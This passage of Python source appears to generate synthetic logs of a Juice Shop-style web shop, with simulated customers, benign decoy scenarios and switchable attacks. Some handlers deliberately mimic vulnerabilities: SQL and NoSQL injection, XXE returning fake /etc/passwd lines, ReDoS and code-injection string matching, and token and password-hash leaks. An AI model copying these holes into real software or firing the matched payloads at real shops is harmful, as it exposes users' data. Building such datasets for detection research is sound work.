        s.qty[int(i)].update(quantity=rq.json.get('quantity'), updatedAt=iso(rq.now))
        return ok(s.qty[int(i)])

    def review(s, p, msg, author):
        i = f'{s.rng.getrandbits(96):024x}'[:17]
        s.reviews[i] = dict(message=msg, author=author, product=p, likesCount=0, likedBy=[], _id=i)
        return s.reviews[i]

    @route('GET', '/rest/products/{id}/reviews')
    def reviews_get(s, rq, i):
        m = re.match(r'sleep\((\d+)\)', i)
        if m:
            return Rs(200, {'status': 'success', 'data': []}, lat=min(2., int(m.group(1)) / 1000) + .02)
        if not i.isdigit():
            return s.error(rq, 400, 'Wrong Params')
        return ok([dict(r, liked=bool(rq.u and rq.u['email'] in r['likedBy'])) for r in s.reviews.values() if r['product'] == int(i)])

    @route('PUT', '/rest/products/{id}/reviews')
    def reviews_put(s, rq, i):
        j = rq.json if isinstance(rq.json, dict) else {}
        if not s.pid(i):
            return s.error(rq, 500, 'Wrong Params')
        s.review(int(i), str(j.get('message'))[:300], str(j.get('author')))
        return 201, {'status': 'success'}

    @route('PATCH', '/rest/products/reviews', auth='user')
    def reviews_patch(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        i = j.get('id')
        hit = list(s.reviews.values()) if isinstance(i, dict) else [s.reviews[i]] if i in s.reviews else []
        old = [dict(r) for r in hit]
        for r in hit:
            r['message'] = str(j.get('message'))
        return 200, dict(modified=len(hit), original=old, updated=hit)

    @route('POST', '/rest/products/reviews', auth='own')
    def reviews_like(s, rq):
        r = s.reviews.get(rq.json.get('id') if isinstance(rq.json.get('id'), str) else None)
        if not r:
            return 404, {'error': 'Not found'}
        if rq.u['email'] in r['likedBy'] and (rq.now - s.likes.get((r['_id'], rq.u['email']), 0) > .15):
            return 403, {'error': 'Not allowed'}
        s.likes.setdefault((r['_id'], rq.u['email']), rq.now)
        r['likesCount'] += 1
        r['likedBy'].append(rq.u['email'])
        return Rs(200, dict(modified=1, original=[dict(r, likesCount=r['likesCount'] - 1, likedBy=r['likedBy'][:-1])], updated=[r]), lat=.16)

    # --- basket and order
    @route('GET', '/rest/basket/{id}', auth='user')
    def basket(s, rq, i):
        if not i.isdigit() or int(i) not in s.baskets:
            return ok(None)
        b = int(i)
        return ok(dict(s.baskets[b], Products=[dict(s.products[x['ProductId']], BasketItem=x) for x in s.items.values() if x['BasketId'] == b]))

    def limit(s, p, n):
        q = s.qty.get(p)
        if q is None:
            return 404, {'message': 'Not found', 'errors': []}
        if q['limitPerUser'] and n > q['limitPerUser']:
            return 400, {'error': f'You can order only up to {q["limitPerUser"]} items of this product.'}
        if n > q['quantity']:
            return 400, {'error': 'We are out of stock! Sorry for the inconvenience.'}

    @route('POST', '/api/BasketItems', auth='own')
    def item_post(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        ids = re.findall(rb'"BasketId"\s*:\s*"?(\d+)', rq.body or b'')
        p, n = j.get('ProductId'), j.get('quantity')
        if not ids or not isinstance(p, int) or not isinstance(n, int):
            return 400, {'message': 'Validation error', 'errors': [{'field': 'quantity', 'message': 'quantity cannot be null'}]}
        if int(ids[0]) != rq.u['bid']:
            return 401, {'error': 'Invalid BasketId'}
        b = int(ids[-1])
        e = s.limit(p, n)
        if e:
            return e
        if any(x['BasketId'] == b and x['ProductId'] == p for x in s.items.values()):
            return 400, {'message': 'Validation error', 'errors': [{'field': 'BasketId', 'message': 'BasketId must be unique'}, {'field': 'ProductId', 'message': 'ProductId must be unique'}]}
        s.n['item'] += 1
        x = s.items[s.n['item']] = dict(ProductId=p, BasketId=b, id=s.n['item'], quantity=n, updatedAt=iso(rq.now), createdAt=iso(rq.now))
        return ok(x)

    @route('GET', '/api/BasketItems/{id}', auth='user')
    def item_get(s, rq, i):
        return ok(s.items[int(i)]) if i.isdigit() and int(i) in s.items else (404, {'message': 'Not found', 'errors': []})

    @route('PUT', '/api/BasketItems/{id}', auth='user')
    def item_put(s, rq, i):
        if not i.isdigit() or int(i) not in s.items:
            return 404, {'message': 'Not found', 'errors': []}
        x, n = s.items[int(i)], rq.json.get('quantity')
        if not isinstance(n, int):
            return 400, {'message': 'Validation error', 'errors': [{'field': 'quantity', 'message': 'quantity must be a number'}]}
        e = s.limit(x['ProductId'], n)
        if e:
            return e
        x.update(quantity=n, updatedAt=iso(rq.now))
        return ok(x)

    @route('DELETE', '/api/BasketItems/{id}', auth='user')
    def item_del(s, rq, i):
        return ok({}) if i.isdigit() and s.items.pop(int(i), None) else (404, {'message': 'Not found', 'errors': []})

    @route('PUT', '/rest/basket/{id}/coupon/{c}', auth='user')
    def coupon(s, rq, i, c):
        m = re.fullmatch(r'([A-Z]{3}\d\d)-(\d\d)', unz85(c))
        b = s.baskets.get(int(i)) if i.isdigit() else None
        if not m or m.group(1) != 'JUN26' or not b:
            return Rs(404, 'Invalid coupon.', ct=HT)
        b['coupon'], b['off'] = c, int(m.group(2))
        return 200, {'discount': int(m.group(2))}

    @route('POST', '/rest/basket/{id}/checkout', auth='own')
    def checkout(s, rq, i):
        b = s.baskets.get(int(i)) if i.isdigit() else None
        if not b:
            return s.error(rq, 500, f'Basket with id={i} does not exist.')
        d = rq.json.get('orderDetails') or {}
        its = [x for x in s.items.values() if x['BasketId'] == b['id']]
        tot = sum(s.products[x['ProductId']]['price'] * x['quantity'] for x in its)
        off = tot * b.pop('off', 0) / 100
        b['coupon'] = None
        ship = {1: .99, 2: .5, 3: 0}.get(d.get('deliveryMethodId'), 0)
        tot = round(tot - off + ship, 2)
        if d.get('paymentId') == 'wallet':
            if s.wallet[rq.u['id']] < tot:
                return s.error(rq, 500, 'Insufficient wallet balance.')
            s.wallet[rq.u['id']] = round(s.wallet[rq.u['id']] - tot, 2)
        for x in its:
            s.qty[x['ProductId']]['quantity'] -= x['quantity']
            del s.items[x['id']]
        o = f'{md5(rq.u["email"])[:4]}-{s.rng.getrandbits(64):016x}'
        s.orders[o] = dict(promotionalAmount=f'{off:.2f}', paymentId=d.get('paymentId'), addressId=d.get('addressId'), orderId=o, delivered=False, email=mask(rq.u['email']), totalPrice=tot, products=[dict(quantity=x['quantity'], id=x['ProductId'], name=s.products[x['ProductId']]['name'], price=s.products[x['ProductId']]['price'], total=round(s.products[x['ProductId']]['price'] * x['quantity'], 2), bonus=0) for x in its], bonus=0, deliveryPrice=ship, eta=str(s.rng.randint(1, 5)), _id=f'{s.rng.getrandbits(68):017x}')
        rq.u.setdefault('orders', []).append(o)
        s.ftp[f'order_{o}.pdf'] = b'%PDF-1.3\n' + f'Juice Shop\nOrder Confirmation\nCustomer: {rq.u["email"]}\nOrder #: {o}\n'.encode() + ''.join(f'{x["quantity"]}x {s.products[x["ProductId"]]["name"]}\n' for x in its).encode() + f'Total Price: {tot}\n'.encode() + random.Random(o).randbytes(900)
        return Rs(200, {'orderConfirmation': o}, lat=.06)

    @route('GET', '/rest/track-order/{id}')
    def track(s, rq, i):
        if "'" in i:
            if '||' in i and ('true' in i or '1==1' in i or "'a'=='a" in i):
                return ok(list(s.orders.values()))
            if 'sleep' in i:
                return Rs(200, {'status': 'success', 'data': []}, lat=2.02)
            return s.error(rq, 400, 'Wrong Param')
        i = re.sub(r'[^\w-]+', '', i)[:60]
        return ok([s.orders[i]] if i in s.orders else [{'orderId': i}])

    def mine(s, u):
        return [s.orders[o] for o in u.get('orders', [])]

    @route('GET', '/rest/order-history', auth='own')
    def history(s, rq):
        return ok(s.mine(rq.u))

    @route('GET', '/rest/order-history/orders', auth='accounting')
    def all_orders(s, rq):
        return ok(list(s.orders.values())[-25:])

    @route('PUT', '/rest/order-history/{id}/delivery-status', auth='accounting')
    def delivered(s, rq, i):
        o = next((o for o in s.orders.values() if o['_id'] == i), None)
        if o:
            o['delivered'] = not rq.json.get('deliveryStatus')
        return ok(dict(modified=int(bool(o))))

    @route('GET', '/api/Deliverys')
    def deliverys(s, rq):
        return ok([dict(id=i, name=n, price=p, eta=e, icon=c) for i, n, p, e, c in ((1, 'One Day Delivery', .99, 1, 'fas fa-rocket'), (2, 'Fast Delivery', .5, 3, 'fas fa-shipping-fast'), (3, 'Standard Delivery', 0, 5, 'fas fa-truck'))])

    @route('GET', '/api/Deliverys/{id}')
    def delivery(s, rq, i):
        return ok(s.deliverys(rq)[1]['data'][int(i) - 1]) if i in ('1', '2', '3') else (400, {'status': 'error'})

    def own_list(s, d, u):
        return ok([x for x in d.values() if x['UserId'] == u['id']])

    def own_get(s, d, u, i):
        x = d.get(int(i)) if i.isdigit() else None
        return ok(x) if x and x['UserId'] == u['id'] else (400, {'status': 'error', 'data': 'Malicious activity detected.'})

    @route('GET', '/api/Cards', auth='own')
    def cards_get(s, rq):
        return s.own_list(s.cards, rq.u)

    @route('GET', '/api/Cards/{id}', auth='own')
    def card_get(s, rq, i):
        return s.own_get(s.cards, rq.u, i)

    @route('POST', '/api/Cards', auth='own')
    def card_post(s, rq):
        s.n['card'] += 1
        j = rq.json
        x = s.cards[s.n['card']] = dict(UserId=rq.u['id'], id=s.n['card'], fullName=str(j.get('fullName')), cardNum='*' * 12 + str(j.get('cardNum'))[-4:], expMonth=j.get('expMonth'), expYear=j.get('expYear'), createdAt=iso(rq.now), updatedAt=iso(rq.now))
        return 201, {'status': 'success', 'data': x}

    @route('DELETE', '/api/Cards/{id}', auth='own')
    def card_del(s, rq, i):
        x = s.own_get(s.cards, rq.u, i)
        if x[0] == 200:
            del s.cards[int(i)]
            return 200, {'status': 'success', 'data': 'Card deleted successfully.'}
        return x

    @route('GET', '/api/Addresss', auth='own')
    def addr_get(s, rq):
        return s.own_list(s.addr, rq.u)

    @route('GET', '/api/Addresss/{id}', auth='own')
    def addr_one(s, rq, i):
        return s.own_get(s.addr, rq.u, i)

    @route('POST', '/api/Addresss', auth='own')
    def addr_post(s, rq):
        s.n['addr'] += 1
        j = rq.json
        x = s.addr[s.n['addr']] = dict(UserId=rq.u['id'], id=s.n['addr'], **{k: j.get(k) for k in ('fullName', 'mobileNum', 'zipCode', 'streetAddress', 'city', 'state', 'country')}, createdAt=iso(rq.now), updatedAt=iso(rq.now))
        return 201, {'status': 'success', 'data': x}

    @route('PUT', '/api/Addresss/{id}', auth='own')
    def addr_put(s, rq, i):
        x = s.own_get(s.addr, rq.u, i)
        if x[0] == 200:
            s.addr[int(i)].update({k: v for k, v in rq.json.items() if k in s.addr[int(i)] and k not in ('id', 'UserId')}, updatedAt=iso(rq.now))
        return x

    @route('GET', '/rest/wallet/balance', auth='own')
    def wallet_get(s, rq):
        return ok(s.wallet[rq.u['id']])

    @route('PUT', '/rest/wallet/balance', auth='own')
    def wallet_put(s, rq):
        j = rq.json
        c = s.cards.get(j.get('paymentId'))
        if not c or c['UserId'] != rq.u['id']:
            return 402, {'status': 'error', 'message': 'Payment not accepted.'}
        s.wallet[rq.u['id']] += j.get('balance') or 0
        return ok(s.wallet[rq.u['id']])

    @route('GET', '/rest/deluxe-membership', auth='own')
    def deluxe_get(s, rq):
        return ok({'membershipCost': 49}) if rq.u['role'] == 'customer' else (400, {'status': 'error', 'error': 'You are already a deluxe member!'})

    @route('POST', '/rest/deluxe-membership', auth='own')
    def deluxe_post(s, rq):
        j = rq.json
        if rq.u['role'] != 'customer':
            return 400, {'status': 'error', 'error': 'Something went wrong. Please try again!'}
        if j.get('paymentMode') == 'wallet' and s.wallet[rq.u['id']] < 49:
            return 400, {'status': 'error', 'error': 'Insuffienct funds in Wallet'}
        if j.get('paymentMode') == 'wallet':
            s.wallet[rq.u['id']] -= 49
        if j.get('paymentMode') == 'card' and (s.cards.get(j.get('paymentId')) or {}).get('UserId') != rq.u['id']:
            return 400, {'status': 'error', 'error': 'Invalid Card'}
        rq.u['role'], rq.u['deluxe'] = 'deluxe', hashlib.sha256(rq.u['email'].encode()).hexdigest()
        return ok({'confirmation': 'Congratulations! You are now a deluxe member!', 'token': s.token(rq.u, rq.now)})

    # --- the rest of the shop
    @route('GET', '/rest/captcha')
    def captcha_get(s, rq):
        a, b, c = s.rng.randint(1, 10), s.rng.randint(1, 10), s.rng.randint(1, 10)
        s.n['captcha'] += 1
        s.captcha[s.n['captcha']] = str(a * b - c)
        return 200, dict(captchaId=s.n['captcha'], captcha=f'{a}*{b}-{c}', answer=str(a * b - c))

    @route('GET', '/api/Feedbacks')
    def feedback_get(s, rq):
        return ok(list(s.feedback.values())[-12:])

    @route('POST', '/api/Feedbacks')
    def feedback_post(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        if s.captcha.get(j.get('captchaId')) != str(j.get('captcha')):
            return Rs(401, 'Wrong answer to CAPTCHA. Please try again.', ct=HT)
        if not isinstance(j.get('rating'), int):
            return 400, {'message': 'Validation error', 'errors': [{'field': 'rating', 'message': 'Feedback.rating cannot be null'}]}
        s.n['fb'] += 1
        x = s.feedback[s.n['fb']] = dict(UserId=j.get('UserId'), id=s.n['fb'], comment=str(j.get('comment'))[:160], rating=j['rating'], createdAt=iso(rq.now), updatedAt=iso(rq.now))
        return Rs(201, {'status': 'success', 'data': x}, {'Location': f'/api/Feedbacks/{x["id"]}'})

    @route('DELETE', '/api/Feedbacks/{id}', auth='user')
    def feedback_del(s, rq, i):
        return ok({}) if i.isdigit() and s.feedback.pop(int(i), None) else (404, {'message': 'Not found', 'errors': []})

    @route('POST', '/file-upload')
    def upload(s, rq):
        m = re.search(rb'filename="([^"]*)"', rq.body or b'')
        if not m:
            return s.error(rq, 400, 'File is not passed')
        f = m.group(1).decode('utf-8', 'replace')
        if f.endswith('.xml'):
            if b'SYSTEM' in rq.body:
                if b'ENTITY lol' in rq.body or b'/dev/random' in rq.body:
                    return Rs(503, 'Sorry, we are temporarily not available! Please try again later.', ct=HT, lat=2.03)
                x = 'root:x:0:0:root:/root:/bin/sh\nbin:x:1:1:bin:/bin:/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent' if b'passwd' in rq.body else '; for 16-bit app support [fonts] [extensions]'
                return s.error(rq, 410, f'B2B customer complaints via file upload have been deprecated for security reasons: <?xml version="1.0"?><foo>{x}</foo> ({f})')
            return s.error(rq, 410, f'B2B customer complaints via file upload have been deprecated for security reasons ({f})')
        return Rs(204, None)

    @route('POST', '/api/Complaints', auth='own')
    def complaint(s, rq):
        s.n['complaint'] += 1
        return 201, {'status': 'success', 'data': dict(UserId=rq.u['id'], id=s.n['complaint'], message=rq.json.get('message'), file=rq.json.get('file'), createdAt=iso(rq.now), updatedAt=iso(rq.now))}

    @route('GET', '/api/Recycles', auth='own')
    def recycles(s, rq):
        return ok([])

    @route('POST', '/api/Recycles', auth='own')
    def recycle(s, rq):
        s.n['recycle'] += 1
        return 201, {'status': 'success', 'data': dict(UserId=rq.u['id'], id=s.n['recycle'], AddressId=rq.json.get('AddressId'), quantity=rq.json.get('quantity'), isPickup=False, date=iso(rq.now + 7 * DAY), createdAt=iso(rq.now), updatedAt=iso(rq.now))}

    @route('GET', '/rest/memories')
    def memories_get(s, rq):
        out = []
        for m in s.memories[-8:]:
            u = s.users[m['UserId']]
            d = dict(id=u['id'], username=u['username'] or u['email'].split('.')[0], profileImage=u['img'])
            if s.attacks and rq.now > s.leak:
                d = dict(s.pub(u), password=md5(u['pw']), totpSecret='')
            out.append(dict(m, User=d))
        return ok(out)

    @route('POST', '/rest/memories', auth='own')
    def memories_post(s, rq):
        m = dict(UserId=rq.u['id'], id=len(s.memories) + 1, caption='#juice', imagePath=f'assets/public/images/uploads/{s.rng.randint(1000, 9999)}.jpg', createdAt=iso(rq.now), updatedAt=iso(rq.now))
        s.memories.append(m)
        return ok(m)

    @route('GET', '/rest/chatbot/status')
    def bot_status(s, rq):
        if rq.now < s.release:
            return s.not_found(rq)
        return 200, {'status': True, 'body': f'Nice to meet you {rq.u["username"] or "stranger"}, I\'m Juicy' if rq.u else 'Sign in to talk to me.', 'action': 'response' if rq.u else 'namequery'}

    @route('POST', '/rest/chatbot/respond', auth='user')
    def bot_respond(s, rq):
        if rq.now < s.release:
            return s.not_found(rq)
        if 'coupon' in str(rq.json.get('query', '')).lower():
            return 200, {'action': 'response', 'body': 'Oooookay, if you promise to stop nagging me here\'s a 10% coupon code for you: ' + z85(b'JUN26-10') if s.rng.random() < .02 else s.rng.choice(['Sorry, we have no coupon for you today.', 'Our company policy does not allow me to hand out coupons.', 'I have to talk to my boss first.'])}
        return 200, {'action': 'response', 'body': s.rng.choice(['Sure! It costs what the page says.', 'I am only a bot.', 'Have you tried our apple juice?'])}

    @route('GET', '/rest/languages')
    def languages(s, rq):
        return 200, [dict(key=k, lang=l, icons=[k[-2:].lower()], percentage=100, gauge='full') for k, l in (('en', 'English'), ('de_DE', 'Deutsch'), ('pt_BR', 'Português'), ('es_ES', 'Español'))]

    @route('GET', '/rest/admin/application-version')
    def version(s, rq):
        return 200, {'version': '17.1.1' if rq.now < s.release else '17.2.0'}

    @route('GET', '/rest/admin/application-configuration')
    def config(s, rq):
        return 200, {'config': CFG}

    @route('GET', '/rest/admin/debug-dump')
    def dump(s, rq):
        if not s.attacks or rq.now < s.st + 8 * DAY:
            return s.not_found(rq)
        return ok([dict(token=t[:40] + '…', email=c['data']['email'], ip=c['data']['lastLoginIp']) for t, c in list(s.issued.items())[-20:]])

    # --- B2B
    def b2b_auth(s, rq):
        k = rq.h.get('x-api-key')
        if k in s.keys:
            rq.user = s.keys[k]
            return rq.user
        return rq.c and rq.c['data']['email']

    @route('POST', '/b2b/v2/orders')
    def b2b(s, rq):
        w = s.b2b_auth(rq)
        if not w:
            return s.gate(rq, 'user')
        j = rq.json if isinstance(rq.json, dict) else {}
        d = str(j.get('orderLinesData', ''))
        if re.search(r'while\s*\(|\(a\+\)\+', d):
            return s.error(rq, 503, 'Sorry, we are temporarily not available! Please try again later.', lat=2.05) if 'a+' in d else s.error(rq, 500, 'Infinite loop detected - reached max iterations', lat=2.03)
        if re.search(r'require|process|constructor', d):
            return s.error(rq, 500, 'require is not defined' if 'require' in d else 'this.constructor.constructor is not a function', name='ReferenceError')
        n = md5(f'{w}{rq.now}')
        s.b2b_orders[n] = w
        return 200, dict(cid=j.get('cid'), orderNo=n, paymentDue=iso(rq.now + 14 * DAY))

    @route('GET', '/b2b/v2/orders/{no}')
    def b2b_get(s, rq, no):
        w = s.b2b_auth(rq)
        if not w:
            return s.gate(rq, 'user')
        return ok(dict(orderNo=no, account=s.b2b_orders[no], state='ACCEPTED', contact=f'purchasing@{s.b2b_orders[no].split(":")[-1]}.example', lines=3)) if no in s.b2b_orders else (404, {'message': 'Not found', 'errors': []})

    @route('GET', '/b2b/v2/orders')
    def b2b_list(s, rq):
        w = s.b2b_auth(rq)
        if not w:
            return s.gate(rq, 'user')
        return ok([dict(orderNo=n, state='ACCEPTED') for n, x in list(s.b2b_orders.items())[-200:] if x == w][-20:])


def rqv(s, n):
    return int(s.t >= s.release) if n in (9000, 14000) else 0


class JuiceSim(Sim):
    def response(s, r, rq):
        head, b = super().response(r, rq)       # Express sends no Server header; its Connection is followed by Keep-Alive.
        head = re.sub(rb'Server: [^\r]*\r\n', b'', head).replace(b'Connection: keep-alive\r\n\r\n', b'Connection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\n')
        return head, b


def build(name, seed, attacks, start='2026-06-01', days=14):
    st = ts(start)
    S = JuiceSim(name, 'Juice Shop: web shop of a single page, synthetic', st, days, '10.90.3.30', 3000, 'shop.juice.example', None, seed, 2,
                 'Synthetic application in the manner of OWASP Juice Shop (MIT); an in-process handler writes the answers. Unknown paths answer the page with 200, below /api and /rest 500. Many GETs are revalidated (304). Requests of ordinary users to /rest/memories after the change of episode J32 are labelled with it.')
    out0 = S.local(4, 20)
    app = S.app = Juice(random.Random(seed + 1), attacks, st, [(out0, out0 + 35 * MIN)])
    app.leak = st + 9 * DAY + 5 * HOUR
    r, rel = S.rng, app.release
    for d, k, x in (('D-nat', 'carrier_nat', 'phones behind addresses of a mobile carrier'), ('D-office', 'corporate_nat', 'a dozen customers of one company behind one address'), ('D-probe', 'monitor_probe', 'availability probe of the version endpoint from inside'), ('D-metrics', 'metrics_scrape', 'Prometheus inside reads /metrics'), ('D-logs', 'log_shipper', 'log shipper inside fetches the access log every night'), ('D-crawl', 'search_crawler', 'search crawler reads products and reviews at an even pace since the start'), ('D-night', 'nightly_stock', 'warehouse job sets the stock of all products every night'), ('D-sale', 'flash_sale', 'comeback sale: everybody comes and buys in three hours'), ('D-release', 'new_client_version', 'new mobile client after the release'), ('D-chatbot', 'documented_new_endpoint', 'the release brings the chat bot'), ('D-outage', 'outage_retries', 'database locked for 35 minutes: 500 and retries'), ('D-pwday', 'password_change_day', 'a mailing asks to change passwords: many do in a day'), ('D-forget', 'forgetful_user', 'owner mistypes the password several times, then gets in or resets it'), ('D-roam', 'roaming_user', 'two customers travel: same device, other network'), ('D-family', 'shared_account', 'a couple shares one account from two networks at once'), ('D-apos', 'apostrophe_search', 'customers search for words with an apostrophe; the shop answers 500 with a database error'), ('D-link', 'broken_newsletter_link', 'a mistyped link of a newsletter makes many customers call an unknown path (500)'), ('D-misprint', 'misprinted_coupon', 'a misprinted coupon code is tried by many customers, refused'), ('D-tab', 'abandoned_tab', 'a tab left open asks on with an expired token for hours'), ('D-staff', 'staff_reads_many', 'shop staff read users and orders all day'), ('D-newstaff', 'new_staff', 'a new accountant starts on day 7 and uses functions for the first time'), ('D-spam', 'moderation_burst', 'administrator deletes 30 feedbacks in a row'), ('D-group', 'bulk_buyer', 'office manager places 14 orders in one evening by hand'), ('D-e2e', 'synthetic_customer', 'end-to-end test inside registers an account every night and buys with it'), ('D-b2b', 'partner_key_rotation', 'partner changes key and network'), ('D-new', 'new_signups', 'new customers all along'), ('D-audit', 'price_round', 'product manager changes 60 prices in one morning')):
        S.decoy(d, k, x)

    # --- people
    app.user('admin@juice.example', 'admin', 'Br1ght-Peel-77')
    staff = [app.user(f'{n}@juice.example', ro) for n, ro in (('ops.lena', 'admin'), ('care.tom', 'admin'), ('acc.ida', 'accounting'), ('acc.ravi', 'accounting'), ('care.june', 'admin'), ('acc.noor', 'accounting'), ('prod.max', 'admin'))]
    svc = app.user('svc.warehouse@juice.example', 'accounting')
    b2bu = app.user('edi@fruitworks.example')
    cust = [app.user(totp=i in (12, 33, 54, 77, 91), basket=False) for i in range(158)]
    for u in r.sample(cust, len(cust)):         # A basket comes with the first log-in, not with the registration.
        app.basket_of(u, u['at'])
    for _ in range(150):
        app.review(r.randint(1, len(app.products)), r.choice(['One of my favorites!', 'Fresh out of a replicator.', "y0ur f1r3wall needs m0r3 musc13", 'Too sweet; would not buy again', 'Kids love it, 10/10', "It's fine - nothing special", 'Better with ice & lemon', 'Arrived broken :(']), r.choice(cust)['email'])
    for i in range(14):
        app.feedback[i + 1] = dict(UserId=r.choice(cust)['id'], id=i + 1, comment=r.choice(['Great shop!', 'Delivery was slow...', 'Why is the juice <so> sour?', 'Love it & will come back']), rating=r.randint(1, 5), createdAt=iso(st - DAY), updatedAt=iso(st - DAY))
    app.n['fb'] = 14
    for i in range(6):
        app.memories.append(dict(UserId=r.choice(cust)['id'], id=i + 1, caption='#zatschi', imagePath=f'assets/public/images/uploads/{i}.jpg', createdAt=iso(st - DAY), updatedAt=iso(st - DAY)))
    for u in cust[:100]:
        app.n['addr'] += 1
        app.addr[app.n['addr']] = dict(UserId=u['id'], id=app.n['addr'], fullName=u['email'].split('@')[0].replace('.', ' ').title(), mobileNum=r.randint(10**9, 10**10), zipCode=f'{r.randint(10000, 99999)}', streetAddress=f'{r.randint(1, 99)} {r.choice(WORDS).title()} Street', city=r.choice(WORDS).title(), state='', country=r.choice(['Germany', 'Portugal', 'Austria']), createdAt=iso(u['at']), updatedAt=iso(u['at']))
        app.n['card'] += 1
        app.cards[app.n['card']] = dict(UserId=u['id'], id=app.n['card'], fullName=u['email'].split('@')[0].replace('.', ' ').title(), cardNum='*' * 12 + f'{r.randint(1000, 9999)}', expMonth=r.randint(1, 12), expYear=r.randint(2080, 2099), createdAt=iso(u['at']), updatedAt=iso(u['at']))

    # --- a client program
    def browser(ip, ua, u=None, **k):
        cl = Client(ip, ua, u and u['email'], headers={'Accept': 'application/json, text/plain, */*', 'Accept-Language': r.choice(['en-US,en;q=0.9', 'de-DE,de;q=0.9,en;q=0.7', 'pt-PT,pt;q=0.9,en;q=0.6'])}, **k)
        cl.web, cl.tags, cl.tok, cl.since = 'okhttp' not in ua and 'JuiceMobile' not in ua, {}, None, 0
        if cl.web:
            cl.h['Referer'] = f'http://{S.host}/'
            cl.h['Cookie'] = 'language=en; welcomebanner_status=dismiss; cookieconsent_status=dismiss'
        return cl

    def get(cl, url, h=None, **k):
        h = dict(h or {})
        if getattr(cl, 'web', False) and url in cl.tags:
            h['If-None-Match'] = cl.tags[url]
        rs = S.call(cl, 'GET', url, h=h, **k)
        if getattr(cl, 'web', False) and rs.tag:
            cl.tags[url] = rs.tag
        return rs

    def carry(cl, tok):
        cl.tok, cl.since = tok, S.now
        cl.h.pop('Authorization', None)
        if tok:
            cl.h['Authorization'] = 'Bearer ' + tok
        if getattr(cl, 'web', False):
            cl.h['Cookie'] = re.sub('; token=.*', '', cl.h['Cookie']) + (f'; token={tok}' if tok else '')

    def post(cl, url, js, **k):
        return S.call(cl, 'POST', url, js=js, h={'Origin': f'http://{S.host}'} if getattr(cl, 'web', False) else None, **k)

    def login(cl, u, pw=None, email=None, **k):
        rs = post(cl, '/rest/user/login', dict(email=email or u['email'], password=pw or u['pw']), ident=u and u['email'], **k)
        if rs.st == 401 and isinstance(rs.full, dict):
            code = app.totp(u, S.now + r.uniform(1, 2))
            rs = post(cl, '/rest/2fa/verify', dict(tmpToken=rs.full['data']['tmpToken'], totpToken=code), ident=u['email'], **k)
        if rs.st == 200:
            cl.bid = rs.full['authentication']['bid']
            carry(cl, rs.full['authentication']['token'])
            if r.random() < .9:
                get(cl, '/rest/user/whoami')
            return True

    def signed(cl, u, life=5.8 * HOUR):
        if cl.tok and S.now - cl.since < life:
            return
        carry(cl, None)
        for _ in range(r.randint(2, 5) if u.get('forget') else int(r.random() < .07)):
            login(cl, u, u['pw'][:-1] if r.random() < .7 else u['pw'].upper(), dc=cl.dc or 'D-forget')
            yield r.uniform(4, 25)
        if u.get('forget') and r.random() < .35:
            get(cl, '/rest/user/security-question?email=' + quote(u['email']), dc=cl.dc or 'D-forget')
            yield r.uniform(6, 20)
            n = f'{r.choice(WORDS)}{r.randint(10, 9999)}'
            post(cl, '/rest/user/reset-password', dict(email=u['email'], answer=u['answer'], new=n, repeat=n), ident=u['email'])
            yield 3
        k = 0
        while not login(cl, u) and k < 5:
            k += 1
            yield 2 ** k

    def splash(cl):
        """what the single page loads before anybody has done anything"""
        if not cl.web:
            get(cl, '/rest/admin/application-configuration')
            get(cl, '/api/Quantitys/')
            return get(cl, '/rest/products/search?q=')
        h = {'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'}
        if S.now - getattr(cl, 'seen', 0) > 20 * MIN:
            get(cl, '/', h=h)
            new = not cl.tags.get('/vendor.js')
            for a in ASSETS:
                if new or r.random() < .1:
                    get(cl, a, h={'Accept': '*/*'})
            get(cl, '/rest/admin/application-configuration')
            if r.random() < .4:
                get(cl, '/rest/languages')
            rs = get(cl, f'/socket.io/?EIO=4&transport=polling&t={z85(struct.pack(">Q", int(S.now * 1000)))[3:].translate(str.maketrans(".:+=^!/*?&<>()[]{}@%$#", "abcdefghijklmnopqrstuv"))}')
            if isinstance(rs.full, str) and rs.full.startswith('0{') and r.random() < .6:
                sid = json.loads(rs.full[1:])['sid']
                S.call(cl, 'POST', f'/socket.io/?EIO=4&transport=polling&sid={sid}', body=b'40', ct='text/plain;charset=UTF-8')
                get(cl, f'/socket.io/?EIO=4&transport=polling&sid={sid}')
        cl.seen = S.now
        get(cl, '/api/Quantitys/')
        rs = get(cl, '/rest/products/search?q=')
        if cl.tok or r.random() < .4:
            get(cl, '/rest/user/whoami')
        for _ in range(int(r.random() < .5)):
            get(cl, '/assets/public/images/products/' + app.products[r.randint(1, len(app.products))]['image'], h={'Accept': 'image/avif,image/webp,*/*;q=0.8'})
        return rs

    def buy(cl, u, n=None, pids=None):
        """from the basket to the confirmation, in the order of the page"""
        for _ in range(n or r.choice([1, 1, 2, 2, 3])):
            p = r.choice(pids) if pids else r.randint(1, len(app.products))
            rs = get(cl, f'/rest/basket/{cl.bid}')
            old = [x['BasketItem'] for x in (rs.full.get('data') or {}).get('Products', [])] if isinstance(rs.full, dict) else []
            hit = next((x for x in old if x['ProductId'] == p), None)
            if hit:
                get(cl, f'/api/BasketItems/{hit["id"]}')
                S.call(cl, 'PUT', f'/api/BasketItems/{hit["id"]}', js=dict(quantity=hit['quantity'] + 1))
            else:
                post(cl, '/api/BasketItems/', dict(ProductId=p, BasketId=str(cl.bid), quantity=1))
            get(cl, f'/api/Products/{p}?d={time.strftime("%a %b %d %Y", time.gmtime(S.now)).replace(" ", "%20")}')
            yield r.lognormvariate(2.3, .7)
        rs = get(cl, f'/rest/basket/{cl.bid}')
        if rs.st not in (200, 304) or not rs.full.get('data') or not rs.full['data']['Products']:
            return
        x = r.random()
        i = r.choice(rs.full['data']['Products'])['BasketItem']
        if x < .25:
            yield r.uniform(2, 12)
            get(cl, f'/api/BasketItems/{i["id"]}')
            S.call(cl, 'PUT', f'/api/BasketItems/{i["id"]}', js=dict(quantity=i['quantity'] + r.choice([1, 1, 2, 4])))
            get(cl, f'/rest/basket/{cl.bid}')
        elif x < .32:
            yield r.uniform(2, 12)
            S.call(cl, 'DELETE', f'/api/BasketItems/{i["id"]}')
            if not get(cl, f'/rest/basket/{cl.bid}').full.get('data', {}).get('Products'):
                return
        if r.random() < .3 and not n:
            return                              # leaves the basket for another day
        yield r.uniform(3, 30)
        rs = get(cl, '/api/Addresss')
